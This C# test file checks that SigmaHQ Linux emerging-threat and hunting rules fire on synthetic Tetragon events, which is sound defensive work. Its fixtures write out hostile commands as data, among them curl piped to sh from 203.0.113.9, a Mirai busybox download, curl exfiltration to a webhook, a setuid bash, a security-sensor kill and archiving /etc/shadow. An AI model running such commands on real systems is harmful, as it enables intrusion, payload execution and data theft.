using static ZtStream.Verifier.Tests.Rules.Sigma.TetragonCalls;
using static ZtStream.Verifier.Tests.Rules.Sigma.TetragonExecs;

namespace ZtStream.Verifier.Tests.Rules.Sigma;

/// <summary>
/// SigmaHQ's emerging-threat and threat-hunting rules for the Linux logs ZtStream reads (TestData/sigma-hq/
/// linux-emerging-threats, linux-threat-hunting: exploits of CVEs, malware and supply-chain campaigns, hunting queries),
/// loaded as published and run on Tetragon execs and policy events through the reader Ingest uses, each beside a near
/// miss: in a pod and on the node, with and without arguments, a parent or a user.
/// </summary>
public sealed class SigmaHqLinuxEmergingThreatsTests
{
    private const string Format = TetragonExecs.Format;
    private static readonly Lazy<RuleLoadResult> Threats = new(() => SigmaHqFolders.Load("linux-emerging-threats"));
    private static readonly Lazy<RuleLoadResult> Hunting = new(() => SigmaHqFolders.Load("linux-threat-hunting"));

    private static Rule Threat(string id) => Threats.Value.Rules.Single(r => r.Id == id);

    private static Rule Hunt(string id) => Hunting.Value.Rules.Single(r => r.Id == id);

    [Fact]
    public void EmergingThreatsFolder_LoadsEveryRuleButTheDeprecatedAggregation()
    {
        var set = Threats.Value;
        Assert.Equal(45, set.Rules.Count);
        Assert.Equal(29, set.Rules.Count(r => r.Kinds.SequenceEqual([EventKinds.RuntimeProcess])));
        Assert.Equal(16, set.Rules.Count(r => r.Kinds.SequenceEqual([EventKinds.RuntimeAlert])));

        // Mirai's brute-force rule counts connections with `| count() by SourceIp > 4` and `timeframe`: a correlation does it.
        var error = Assert.Single(set.Errors);
        Assert.Equal("net_connection_lnx_mirai_telnet_bruteforce.yml", Path.GetFileName(error.File));
        Assert.Equal("'timeframe' belongs to Sigma's deprecated aggregations and is not supported", error.Reason);
        Assert.True(error.Line > 0);
    }

    [Fact]
    public void ThreatHuntingFolder_LoadsEveryRule()
    {
        var set = Hunting.Value;
        Assert.Equal(12, set.Rules.Count);
        Assert.Empty(set.Errors);
        Assert.All(set.Rules, r => Assert.Contains("detection.threat-hunting", r.Tags.Select(t => t.Replace('_', '-'))));
    }

    // --- Exploits of CVEs ---

    [Fact]
    public void XzBackdoor_IsAShellCommandRunAsRootBySshd()
    {
        var rule = Threat("9aa27839-e8ba-4d7a-ac1a-746c22c3d1e5");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/bash", "-c \"curl -s http://203.0.113.9/x | sh\"", parent: "/usr/sbin/sshd", parentArguments: "-D")));
        Assert.True(rule.Fires(Format, Exec("/bin/sh", "-c id", parent: "/usr/sbin/sshd", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/bash", "-c id", parent: "/usr/sbin/sshd", user: "deploy", uid: 1000)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/bash", "-c id", parent: "/usr/sbin/cron")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/bash", null, parent: "/usr/sbin/sshd")));
    }

    [Fact]
    public void ConfluenceCve202322518_IsADownloaderOrShellUnderConfluencesJava_NotItsUlimitCheck()
    {
        var rule = Threat("f8987c03-4290-4c96-870f-55e75ee377f4");
        const string Java = "/opt/atlassian/confluence/jre/bin/java";
        const string Bootstrap = "-classpath /opt/atlassian/confluence/bin/bootstrap.jar org.apache.catalina.startup.Bootstrap start";

        Assert.True(rule.Fires(Format, Exec("/usr/bin/curl", "-s http://203.0.113.9/cerber -o /tmp/c", parent: Java, parentArguments: Bootstrap)));
        Assert.True(rule.Fires(Format, Exec("/bin/bash", "-c whoami", parent: Java, parentArguments: Bootstrap, pod: false)));
        Assert.False(rule.Fires(Format, Exec("/bin/bash", "-c \"ulimit -u\"", parent: Java, parentArguments: Bootstrap)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/curl", "-s http://203.0.113.9/x", parent: "/usr/lib/jvm/bin/java", parentArguments: "-jar jenkins.war")));
    }

    [Fact]
    public void SapNetWeaverChild_IsAShellOrToolRunFromTheIrjWorkDirectory()
    {
        var rule = Threat("69dea60b-2deb-4c9e-a685-ad542f4367f9");
        const string Root = "/usr/sap/J2E/J00/j2ee/cluster/apps/sap.com/irj/servlet_jsp/irj/root";

        Assert.True(rule.Fires(Format, Exec("/usr/bin/wget", "http://203.0.113.9/helper.jsp", cwd: Root, user: "j2eadm", uid: 1001)));
        Assert.True(rule.Fires(Format, Exec("/bin/sh", "-c id", parent: Root + "/helper", cwd: "/tmp")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/ls", "-la", cwd: Root)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/wget", "http://203.0.113.9/x", cwd: "/usr/sap/J2E/J00/work")));
    }

    [Fact]
    public void React2Shell_IsARecoveryToolOrShellUnderANextServer()
    {
        var rule = Threat("c70834fa-fb9d-4aa0-9e7d-45ceed36f3f7");
        const string Next = "/app/node_modules/.bin/next start";

        Assert.True(rule.Fires(Format, Exec("/usr/bin/whoami", null, parent: "/usr/local/bin/node", parentArguments: Next)));
        Assert.True(rule.Fires(Format, Exec("/bin/sh", "-c \"curl http://203.0.113.9/x | sh\"", parent: "/usr/local/bin/node", parentArguments: Next, pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/whoami", null, parent: "/usr/local/bin/node", parentArguments: "/srv/worker.js")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/git", "rev-parse HEAD", parent: "/usr/local/bin/node", parentArguments: Next)));
    }

    [Fact]
    public void SuidDumpable_IsSysctlOrAShellEnablingSuidCoreDumps()
    {
        var rule = Threat("33b3cfb1-574e-44b9-b527-fbf9303b9d7b");

        Assert.True(rule.Fires(Format, Exec("/usr/sbin/sysctl", "-w fs.suid_dumpable=2")));
        Assert.True(rule.Fires(Format, Exec("/bin/bash", "-c \"echo 2 > /proc/sys/fs/suid_dumpable\"", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/sbin/sysctl", "-a")));
        Assert.False(rule.Fires(Format, Exec("/bin/bash", "-c \"cat /proc/sys/fs/suid_dumpable\"")));
    }

    [Fact]
    public void CopyFail_IsASetuidBinaryStartedByPythonOrAShellStartedByIt()
    {
        var rule = Threat("7a3f8d2e-9c41-4b7e-a5d0-1e6f3c8b2947");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/su", null, parent: "/usr/bin/python3", parentArguments: "copy_fail.py", user: "nobody", uid: 65534)));
        Assert.True(rule.Fires(Format, Exec("/bin/sh", null, parent: "/usr/bin/passwd")));
        Assert.True(rule.Fires(Format, Exec("/bin/sh", "-c su", parent: "/usr/bin/python3.12")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/su", "- deploy", parent: "/bin/bash")));
        Assert.False(rule.Fires(Format, Exec("/bin/sh", "-c \"ls /tmp\"", parent: "/usr/bin/python3")));
    }

    [Fact]
    public void AuthencesnModuleLoad_IsModprobeAskedForTheCipher()
    {
        var rule = Threat("474b415a-d917-4f3b-8c62-9e1a0d5f7b48");

        // The kernel runs /sbin/modprobe, a link to kmod: Tetragon writes the path the exec named.
        Assert.True(rule.Fires(Format, Exec("/sbin/modprobe", "-q -- crypto-authencesn(hmac(sha256),cbc(aes))", parent: null, pod: false)));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/kmod", "modprobe crypto-authencesn", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/sbin/modprobe", "-q -- crypto-aes", parent: null, pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/kmod", "list")));
    }

    [Fact]
    public void JellyfinFfmpegInjection_IsADrawtextFilterReadingAFile()
    {
        var rule = Threat("6fc1703c-8858-46a3-a82f-c1450077dde4");

        Assert.True(rule.Fires(Format, Exec("/usr/lib/jellyfin-ffmpeg/ffmpeg", "-i /media/a.mkv -codec:v:0 h264 -vf drawtext=textfile=/etc/passwd:fontsize=12 -f hls -", parent: "/usr/lib/jellyfin/bin/jellyfin", user: "jellyfin", uid: 110)));
        Assert.False(rule.Fires(Format, Exec("/usr/lib/jellyfin-ffmpeg/ffmpeg", "-i /media/a.mkv -vf drawtext=text=hello -f hls -")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/cat", "drawtext textfile=/etc/passwd")));
    }

    [Fact]
    public void Pack2TheRoot_IsTheSuidBashInstalledOrRun()
    {
        var proc = Threat("a3b7c4e1-5f82-4d9a-b062-3e8f1c9d5a47");
        var file = Threat("02e165f5-d616-4e50-938c-0efa1358e1af");

        Assert.True(proc.Fires(Format, Exec("/usr/bin/install", "-m 4755 /bin/bash /tmp/.suid_bash", parent: "/bin/sh", parentArguments: "/var/lib/dpkg/info/pk-payload.postinst configure")));
        Assert.True(proc.Fires(Format, Exec("/tmp/.suid_bash", "-p -c id", user: "alice", uid: 1000)));
        Assert.False(proc.Fires(Format, Exec("/usr/bin/install", "-m 0755 /bin/bash /tmp/.suid_bash")));
        Assert.True(file.Fires(Format, FilePermission("/usr/bin/install", "/tmp/.suid_bash")));
        Assert.True(file.Fires(Format, FilePermission("/usr/bin/python3", "/home/alice/.pk-payload-1a2b.deb", user: "alice")));
        Assert.False(file.Fires(Format, FilePermission("/usr/bin/cat", "/tmp/.suid_bash", mask: 4)));
        Assert.False(file.Fires(Format, FilePermission("/usr/bin/apt", "/var/cache/apt/archives/bash_5.2.deb")));
    }

    [Fact]
    public void GogsRebaseInjection_IsGitRebaseExecUnderGogs_NotADevelopersRebase()
    {
        var rule = Threat("c1c6a4a7-9795-5282-80c7-11da044740ae");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/git", "rebase --quiet --exec=touch${IFS}/tmp/pwn main", parent: "/app/gogs/gogs", parentArguments: "web", user: "git", uid: 1000)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/git", "rebase --exec \"make test\" main", parent: "/bin/bash", user: "dev", uid: 1000)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/git", "rebase main", parent: "/app/gogs/gogs", parentArguments: "web")));
    }

    [Fact]
    public void PaperCutAndNetScalerChildren_AreShellsAndToolsUnderTheirServers()
    {
        var papercut = Threat("7d186f88-8358-4e1a-8e6e-ba6e3db84ed2");
        var netscaler = Threat("5d48a0b5-99f7-4b86-95bb-783730fa7bcb");

        Assert.True(papercut.Fires(Format, Exec("/bin/sh", "-c whoami", parent: "/opt/papercut/runtime/jre/bin/java", parentArguments: "-Dserver.home=/opt/papercut/server -jar pc-app.jar")));
        Assert.False(papercut.Fires(Format, Exec("/bin/sh", "-c \"ls /opt\"", parent: "/opt/papercut/runtime/jre/bin/java", parentArguments: "-jar pc-app.jar")));
        Assert.False(papercut.Fires(Format, Exec("/bin/sh", "-c whoami", parent: "/usr/lib/jvm/bin/java", parentArguments: "-jar other.jar")));

        Assert.True(netscaler.Fires(Format, Exec("/bin/sh", "-c \"curl http://203.0.113.9/s | sh\"", parent: "/usr/bin/perl", parentArguments: "/netscaler/ns_monuploadd_err.pl", pod: false)));
        Assert.False(netscaler.Fires(Format, Exec("/bin/sh", "-c \"curl http://203.0.113.9/s | sh\"", parent: "/usr/bin/perl", parentArguments: "/netscaler/nsconfigaudit.pl", pod: false)));
    }

    [Fact]
    public void Unc4841_IsOpensslToAnAddress_WgetOfATarFromAPublicAddress_AndSeaspy()
    {
        var openssl = Threat("60911c07-f989-4362-84af-c609828ef829");
        var wget = Threat("23835beb-ec38-4e74-a5d4-b99af6684e91");
        var seaspy = Threat("f6a711f3-d032-4f9e-890b-bbe776236c84");

        Assert.True(openssl.Fires(Format, Exec("/usr/bin/openssl", "s_client -quiet -connect 203.0.113.9:443", pod: false)));
        Assert.False(openssl.Fires(Format, Exec("/usr/bin/openssl", "s_client -quiet -connect mail.example.org:443", pod: false)));
        Assert.True(wget.Fires(Format, Exec("/usr/bin/wget", "--no-check-certificate https://203.0.113.9/install_reuse.tar")));
        Assert.False(wget.Fires(Format, Exec("/usr/bin/wget", "--no-check-certificate https://10.0.4.5/install_reuse.tar")));
        Assert.False(wget.Fires(Format, Exec("/usr/bin/wget", "https://203.0.113.9/install_reuse.tar")));
        Assert.True(seaspy.Fires(Format, Exec("/root/BarracudaMailService", "eth0", parent: null)));
        Assert.False(seaspy.Fires(Format, Exec("/root/BarracudaMailService.old", "eth0")));
    }

    // --- Malware and supply-chain campaigns ---

    [Fact]
    public void ShaiHulud_IsBunRunningItsPayloadUnderNode_CurlToItsWebhook_AndItsName()
    {
        var bun = Threat("eb827bbd-670a-4d58-8446-c464d8ac2323");
        var exfil = Threat("efd2eb09-b72e-4a61-8dc7-b1382a1e8983");
        var marker = Threat("11bb9b26-4179-4a06-afcb-1ec31fce1627");

        Assert.True(bun.Fires(Format, Exec("/home/ci/.bun/bin/bun", "bun_environment.js", parent: "/usr/bin/node", parentArguments: "setup_bun.js", user: "ci", uid: 1001)));
        Assert.False(bun.Fires(Format, Exec("/home/ci/.bun/bin/bun", "bun_environment.js", parent: "/bin/bash")));
        Assert.False(bun.Fires(Format, Exec("/home/ci/.bun/bin/bun", "run build", parent: "/usr/bin/node")));
        Assert.True(exfil.Fires(Format, Exec("/usr/bin/curl", "-d @/tmp/data.json https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7")));
        Assert.False(exfil.Fires(Format, Exec("/usr/bin/curl", "-d @/tmp/data.json https://webhook.site/00000000-0000-4000-8000-000000000000")));
        Assert.True(marker.Fires(Format, Exec("/usr/bin/git", "push origin Shai-Hulud", pod: false)));
        Assert.False(marker.Fires(Format, Exec("/usr/bin/git", "push origin main", pod: false)));
    }

    [Fact]
    public void ChainDrop_IsItsPayloadUnderBun_AndCloudTokensMintedFromAPackageTree()
    {
        var execution = Threat("1dd63f56-544d-418e-bb3a-dbf5118a0130");
        var credentials = Threat("908741a7-fb51-4f42-b2f0-ee4c1740bab6");
        const string Payload = "/app/node_modules/keyv/Math_Symbol.js";

        Assert.True(execution.Fires(Format, Exec("/tmp/bun-dl-x1/bun", Payload, parent: "/usr/bin/node")));
        Assert.True(execution.Fires(Format, Exec("/usr/bin/node", "setup.mjs", cwd: "/app/node_modules/keyv", parent: "/bin/sh")));
        Assert.False(execution.Fires(Format, Exec("/usr/bin/node", "setup.mjs", cwd: "/app", parent: "/bin/sh")));
        Assert.True(credentials.Fires(Format, Exec("/usr/bin/gh", "auth token", parent: "/tmp/bun-dl-x1/bun", parentArguments: Payload)));
        Assert.False(credentials.Fires(Format, Exec("/usr/bin/gh", "auth token", parent: "/tmp/bun-dl-x1/bun", parentArguments: "/app/node_modules/.bin/release")));
        Assert.False(credentials.Fires(Format, Exec("/usr/bin/gh", "auth token", parent: "/bin/bash")));
    }

    [Fact]
    public void AxiosTanStackAndTeamPcp_AreTheirDownloadsAndRunners()
    {
        var axios = Threat("0a23a62d-c5b3-468b-a072-25064a9a8c87");
        var tanstack = Threat("3c6f5e4a-8d0b-6abc-d9e2-4f7a6b8c9d0e");
        var teampcp = Threat("36603778-030c-43c4-8cbb-cd3c1d1a80c7");

        Assert.True(axios.Fires(Format, Exec("/usr/bin/curl", "-o /tmp/ld.py -d packages.npm.org/product2 -s http://sfrclak.com:8000/6202033")));
        Assert.False(axios.Fires(Format, Exec("/usr/bin/curl", "-o /tmp/x -s https://registry.npmjs.org/axios")));
        Assert.True(tanstack.Fires(Format, Exec("/root/.bun/bin/bun", "run tanstack_runner.js")));
        Assert.False(tanstack.Fires(Format, Exec("/root/.bun/bin/bun", "run build.js")));
        Assert.True(teampcp.Fires(Format, Exec("/usr/bin/tar", "czf tpcp.tar.gz payload.enc session.key.enc", parent: "/usr/bin/python3")));
        Assert.False(teampcp.Fires(Format, Exec("/usr/bin/tar", "czf backup.tar.gz payload.enc")));
    }

    [Fact]
    public void Mirai_IsItsIptablesDrop_ItsLoader_AndTelnetFromOutsideSystemPaths()
    {
        var iptables = Threat("12312b3a-aa38-4645-926d-056988da285a");
        var loader = Threat("5340f9cf-920e-40f6-96d9-b78986cd99ee");
        var scan = Threat("9a7f3c2d-4e5b-4a1c-8d2f-3b6a9c1e5d7f");

        Assert.True(iptables.Fires(Format, Exec("/usr/sbin/iptables", "-A INPUT -p tcp --dport 23 -j DROP", parent: "/tmp/dvrHelper", pod: false)));
        Assert.False(iptables.Fires(Format, Exec("/usr/sbin/iptables", "-A INPUT -p tcp --dport 23 -j ACCEPT", pod: false)));
        Assert.True(loader.Fires(Format, Exec("/bin/busybox", "wget http://203.0.113.9/bins/mirai.arm7 -O /tmp/m", parent: null, pod: false)));
        Assert.True(loader.Fires(Format, Exec("/bin/busybox", "chmod 777 /tmp/m", pod: false)));
        Assert.False(loader.Fires(Format, Exec("/bin/busybox", "wget https://203.0.113.9/firmware.bin -O /root/f", pod: false)));

        Assert.True(scan.Fires(Format, TcpConnect("/tmp/dvrHelper", "203.0.113.44", 23, pod: false)));
        Assert.True(scan.Fires(Format, TcpConnect("/var/run/.x", "2001:db8:ff::9", 48101, "2001:db8:1::7")));
        Assert.False(scan.Fires(Format, TcpConnect("/usr/bin/telnet", "203.0.113.44", 23)));
        Assert.False(scan.Fires(Format, TcpConnect("/tmp/dvrHelper", "192.168.1.20", 2323)));
        Assert.False(scan.Fires(Format, TcpConnect("/tmp/dvrHelper", "203.0.113.44", 22)));

        // connect() names no protocol (its sockaddr holds the address alone), and the rule requires `Protocol: tcp`.
        Assert.False(scan.Fires(Format, SocketConnect("/tmp/dvrHelper", "203.0.113.44", 23)));
    }

    [Fact]
    public void AgentSecrets_AreApiKeysInArgv_AndMcpServersFromOutsideTheRegistry()
    {
        var key = Threat("e858a877-40df-48cf-a312-7ac00ee446aa");
        var bearer = Threat("1b9306f4-61af-4d4d-af4d-60229dd391c1");
        var mcp = Threat("f8adc8ec-515a-4d6b-9998-b419d6906ee8");

        Assert.True(key.Fires(Format, Exec("/usr/bin/python3", "agent.py --key sk-ant-api03-AbCdEf", user: "dev", uid: 1000)));
        Assert.False(key.Fires(Format, Exec("/usr/bin/python3", "agent.py --key-file /run/secrets/anthropic", user: "dev", uid: 1000)));
        Assert.True(bearer.Fires(Format, Exec("/usr/bin/curl", "-H \"Authorization: Bearer sk-ant-oat01-xyz\" https://api.anthropic.com/v1/messages")));
        Assert.False(bearer.Fires(Format, Exec("/usr/bin/python3", "-c \"print('Authorization: Bearer sk-x')\"")));
        Assert.False(bearer.Fires(Format, Exec("/usr/bin/curl", "-H @/run/secrets/headers https://api.anthropic.com/v1/messages")));

        // `claude mcp add` is argv[0] and argv[1..]: Tetragon's binary is the path, read also as the name a shell ran.
        Assert.True(mcp.Fires(Format, Exec("/usr/local/bin/claude", "mcp add evil -- npx -y evil-mcp", user: "dev", uid: 1000)));
        Assert.True(mcp.Fires(Format, Exec("/usr/bin/npx", "-y mcp-server-shell")));
        Assert.False(mcp.Fires(Format, Exec("/usr/bin/npx", "-y @modelcontextprotocol/server-github")));
        Assert.False(mcp.Fires(Format, Exec("/usr/bin/npx", "-y prettier")));
    }

    [Fact]
    public void EmergingThreatFileWrites_AreTheirPaths_NeverAReadOfThem()
    {
        var mail = Threat("0785f462-60b0-4031-9ff4-b4f3a0ba589a");
        var nsswitch = Threat("10ac0730-c24e-4f4c-81f8-b13a1ac95a1d");
        var workflow = Threat("0aba5685-6db6-486f-88ef-29a99c545cfd");
        var mcpConfig = Threat("89216c0a-8aca-43c1-a74b-b99adf8a2b56");
        var chainDrop = Threat("98fbf2fa-4059-440a-9d1a-3198a6c6239f");
        var teampcp = Threat("81c0b7f5-81c9-435e-a291-bc32fc2b72cd");
        var sap = Threat("5b91409c-cb18-4ab6-ac75-c5759f998409");

        // UNC4841's staged mail: three letters or digits, then three digits (its regular expression is case-sensitive).
        Assert.True(mail.Fires(Format, FilePermission("/bin/tar", "/mail/tmp/abc123.tar.gz", pod: false)));
        Assert.False(mail.Fires(Format, FilePermission("/bin/tar", "/mail/tmp/abcd12.tar.gz", pod: false)));
        Assert.False(mail.Fires(Format, FilePermission("/bin/tar", "/mail/tmp/abc123.tar.gz", mask: 4, pod: false)));

        // CVE-2025-32463: an nsswitch.conf anywhere but /etc, for sudo --chroot to load.
        Assert.True(nsswitch.Fires(Format, FilePermission("/usr/bin/cp", "/tmp/sudowoot.stage/woot/etc/nsswitch.conf", user: "alice")));
        Assert.False(nsswitch.Fires(Format, FilePermission("/usr/bin/cp", "/etc/nsswitch.conf")));

        Assert.True(workflow.Fires(Format, Truncate("/usr/bin/node", "/home/ci/repo/.github/workflows/shai-hulud-workflow.yml")));
        Assert.False(workflow.Fires(Format, FilePermission("/usr/bin/node", "/home/ci/repo/.github/workflows/ci.yml")));

        Assert.True(mcpConfig.Fires(Format, FilePermission("/usr/bin/python3", "/home/dev/.claude/settings.json", user: "dev")));
        Assert.False(mcpConfig.Fires(Format, FilePermission("/usr/local/bin/node", "/home/dev/.claude/settings.json", user: "dev")));

        Assert.True(chainDrop.Fires(Format, FilePermission("/usr/bin/node", "/app/.vscode/setup.mjs")));
        Assert.False(chainDrop.Fires(Format, FilePermission("/usr/bin/node", "/app/setup.mjs")));

        Assert.True(teampcp.Fires(Format, FilePermission("/usr/bin/python3.12", "/root/.config/systemd/user/sysmon.service")));
        Assert.False(teampcp.Fires(Format, FilePermission("/usr/bin/vim", "/root/.config/systemd/user/sysmon.service")));

        Assert.True(sap.Fires(Format, FilePermission("/usr/sap/J2E/J00/exe/jlaunch", "/usr/sap/J2E/J00/j2ee/cluster/apps/sap.com/irj/servlet_jsp/irj/root/helper.jsp")));
        Assert.False(sap.Fires(Format, FilePermission("/usr/sap/J2E/J00/exe/jlaunch", "/usr/sap/J2E/J00/j2ee/cluster/apps/sap.com/irj/servlet_jsp/irj/root/index.html")));
    }

    // --- Threat hunting ---

    [Fact]
    public void HuntingQueries_MatchTheirCommands_AndNotTheNeighbouringOnes()
    {
        var compile = Hunt("83b223c7-74b2-4f69-8176-778628a0ff7b");
        Assert.True(compile.Fires(Format, Exec("/usr/bin/gcc", "-o /tmp/x /tmp/x.c", user: "www-data", uid: 33)));
        Assert.True(compile.Fires(Format, Exec("/home/dev/a.out", null)));
        Assert.False(compile.Fires(Format, Exec("/usr/bin/gcc", "-o build/x src/x.c")));

        var lookup = Hunt("3531f74f-ae8a-4192-ada2-e64c873d4fe6");
        Assert.True(lookup.Fires(Format, Exec("/usr/bin/curl", "-s ifconfig.me")));
        Assert.False(lookup.Fires(Format, Exec("/usr/bin/curl", "-s https://example.org/")));
        Assert.False(lookup.Fires(Format, Exec("/usr/bin/dig", "+short myip.opendns.com ifconfig.me")));

        var npm = Hunt("555bb260-53f8-45b5-a693-76b9c77a712a");
        Assert.True(npm.Fires(Format, Exec("/bin/sh", "-c \"curl -fsSL http://203.0.113.9/p | bash\"", parent: "/usr/bin/node", parentArguments: "/usr/lib/node_modules/npm/bin/npm-cli.js install")));
        Assert.True(npm.Fires(Format, Exec("/usr/bin/python3", "-c \"import socket,os\"", parent: "/usr/bin/node")));
        Assert.False(npm.Fires(Format, Exec("/bin/sh", "-c \"node-gyp rebuild\"", parent: "/usr/bin/node")));
        Assert.False(npm.Fires(Format, Exec("/bin/sh", "-c \"curl -fsSL http://203.0.113.9/p | bash\"", parent: "/usr/bin/make")));

        var ldap = Hunt("0cd51b2c-2f8f-42fb-8247-94ef2106b887");
        Assert.True(ldap.Fires(Format, Exec("/usr/bin/ldapsearch", "-x -H ldap://dc1.corp.example -D svc@corp.example -w Passw0rd -b DC=corp,DC=example (objectClass=user)")));
        Assert.False(ldap.Fires(Format, Exec("/usr/bin/ldapsearch", "-x -H ldap://dc1.corp.example -b DC=corp,DC=example (objectClass=user)")));

        var hash = Hunt("94bbe45e-78ed-4636-a38d-e31ebb6eb8b4");
        Assert.True(hash.Fires(Format, Exec("/usr/bin/openssl", "passwd -6 -salt xyz hunter2")));
        Assert.False(hash.Fires(Format, Exec("/usr/bin/openssl", "rand -hex 16")));

        var archive = Hunt("af17ed71-8c15-4e6c-b5db-e471b91dca21");
        Assert.True(archive.Fires(Format, Exec("/usr/bin/zip", "-P s3cret /tmp/out.zip /etc/shadow")));
        Assert.True(archive.Fires(Format, Exec("/usr/bin/7z", "a -pS3cret /tmp/out.7z /home")));
        Assert.False(archive.Fires(Format, Exec("/usr/bin/zip", "-r /tmp/out.zip /home")));
        Assert.False(archive.Fires(Format, Exec("/usr/bin/7z", "x -pS3cret /tmp/in.7z")));
    }

    [Fact]
    public void HuntingQueries_ForBinariesAndAccounts()
    {
        var single = Hunt("d9f65919-9d42-4f5a-86a4-7d894258e5a7");
        Assert.True(single.Fires(Format, Exec("/tmp/x", null, parent: null)));
        Assert.False(single.Fires(Format, Exec("/tmp/xy", null, parent: null)));

        var sshpass = Hunt("d2fb0fa2-fc04-4634-abbb-fcbed24bfe3d");
        Assert.True(sshpass.Fires(Format, Exec("/usr/bin/sshpass", "-p Winter2026 ssh -o StrictHostKeyChecking=no root@10.0.0.8", user: "alice", uid: 1000)));
        Assert.False(sshpass.Fires(Format, Exec("/usr/bin/sshpass", "-V")));

        var kill = Hunt("64c41342-6b27-523b-5d3f-c265f3efcdb3");
        Assert.True(kill.Fires(Format, Exec("/usr/bin/pkill", "-9 falcon-sensor")));
        Assert.False(kill.Fires(Format, Exec("/usr/local/bin/killer", "--dry-run")));

        var ps = Hunt("4e2f5868-08d4-413d-899f-dc2f1508627b");
        Assert.True(ps.Fires(Format, Exec("/usr/bin/ps", "aux", pod: false)));
        Assert.False(ps.Fires(Format, Exec("/usr/bin/psql", "-c \"select 1\"")));

        var unlock = Hunt("20019d91-00dd-4ac9-8c25-76766315fe4a");
        Assert.True(unlock.Fires(Format, Exec("/usr/sbin/usermod", "-U -e 2027-01-01 games")));
        Assert.True(unlock.Fires(Format, Exec("/usr/bin/chage", "-E -1 games")));
        Assert.False(unlock.Fires(Format, Exec("/usr/sbin/usermod", "-aG docker bob")));

        var pth = Hunt("fb96c26c-9f85-4ae7-af0d-ed1ed1f1f5ce");
        Assert.True(pth.Fires(Format, FilePermission("/usr/bin/pip3", "/usr/lib/python3.12/site-packages/zz_init.pth")));
        Assert.False(pth.Fires(Format, FilePermission("/usr/bin/pip3", "/usr/lib/python3.4/site-packages/zz_init.pth")));
        Assert.False(pth.Fires(Format, FilePermission("/usr/bin/pip3", "/usr/lib/python3.12/site-packages/zz_init.py")));
    }
}
